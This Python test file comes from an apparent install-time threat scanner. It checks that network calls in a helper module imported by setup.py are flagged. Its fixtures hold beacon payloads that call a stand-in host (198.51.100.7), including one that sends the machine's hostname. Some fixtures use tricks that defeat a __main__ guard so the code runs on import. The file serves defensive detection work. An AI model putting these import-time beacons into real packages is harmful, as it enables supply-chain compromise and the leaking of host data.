"""Network at import of a module an install script imports (caplet._scan._installer_network).

The attack: setup.py imports a helper beside it (``import _helper``) whose module-level
code calls home; ``import`` runs it at install, as surely as setup.py's own code, while
the helper kept a module's chains (attack8 left it open). The near misses: the same call
inside a function (lxml's buildlibxml.py downloads only when setup.py asks), under a
``__main__`` guard, or in a module nobody imports at install.
"""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree
from tests._scan.scankit import SETUP, package_danger, write_tree


def _sdist(root: Path, target: Path) -> Path:
    """``root``'s files as an sdist, setup.py last (its imports are known only then)."""
    files = sorted((p for p in root.rglob("*") if p.is_file()), key=lambda p: p.name == "setup.py")
    with tarfile.open(target, "w:gz") as archive:
        for path in files:
            archive.add(path, arcname=f"pkg-1.0/{path.relative_to(root).as_posix()}")
    return target


#: ``import helper`` runs helper's module-level statements at install: a beacon there is
#: network at install as in setup.py (attack8 left it open: a module's chains stay a
#: module's, which is right for what runs only when setup.py calls it).
_IMPORT_TIME_NETWORK = {
    "beacon": "import urllib.request\nurllib.request.urlopen('http://198.51.100.7/ping?h=1')\n",
    "host-sent": "import requests, socket\n"
    "requests.get('http://198.51.100.7/i', params={'h': socket.gethostname()})\n",
    "class-body": "import urllib.request\n\n\nclass Build:\n"
    "    marker = urllib.request.urlopen('http://198.51.100.7/')\n",
    # attack11: a guard's line that goes on past the comparison, which an import runs
    "guard-or-true": "import urllib.request\n\nif __name__ == '__main__' or True:\n"
    "    urllib.request.urlopen('http://198.51.100.7/ping')\n",
    "guard-bitor": "import urllib.request\n\nif (__name__ == '__main__') | 1:\n"
    "    urllib.request.urlopen('http://198.51.100.7/ping')\n",
}


@pytest.mark.parametrize("shape", sorted(_IMPORT_TIME_NETWORK))
def test_network_at_import_of_a_module_setup_py_imports_is_at_install(
    tmp_path: Path, shape: str
) -> None:
    files = {
        "setup.py": SETUP.format(importer="import _helper"),
        "_helper.py": _IMPORT_TIME_NETWORK[shape],
    }
    root = write_tree(tmp_path / "tree", files)
    assert ("CPL-THR-011", "_helper.py") in package_danger(root)
    assert ("CPL-THR-011", "_helper.py") in package_danger(
        _sdist(root, tmp_path / "pkg-1.0.tar.gz")
    )
    plugin = scan_tree(root, mode=ScanMode.PLUGIN)
    assert ("CPL-THR-011", "_helper.py") in {
        (f.rule_id, f.file) for f in plugin.findings if f.severity is Severity.DANGER
    }


@pytest.mark.parametrize(
    "helper",
    [
        # inside a function (lxml's buildlibxml.py): runs only when setup.py calls it
        "import urllib.request\n\n\ndef fetch():\n"
        "    return urllib.request.urlopen('https://example.org/lib.tgz').read()\n",
        # under a __main__ guard: an import does not run it
        "import urllib.request\n\nif __name__ == '__main__':\n"
        "    # fetched when run by hand\n\n    urllib.request.urlopen('https://example.org/')\n",
    ],
    ids=["function", "main-guard"],
)
def test_network_that_an_import_does_not_run_stays_a_modules(tmp_path: Path, helper: str) -> None:
    files = {"setup.py": SETUP.format(importer="import _helper"), "_helper.py": helper}
    assert package_danger(write_tree(tmp_path, files)) == set()


def test_module_level_network_in_a_module_nobody_imports_at_install_is_no_install_threat(
    tmp_path: Path,
) -> None:
    files = {"setup.py": SETUP.format(importer=""), "_helper.py": _IMPORT_TIME_NETWORK["beacon"]}
    assert ("CPL-THR-011", "_helper.py") not in package_danger(write_tree(tmp_path, files))
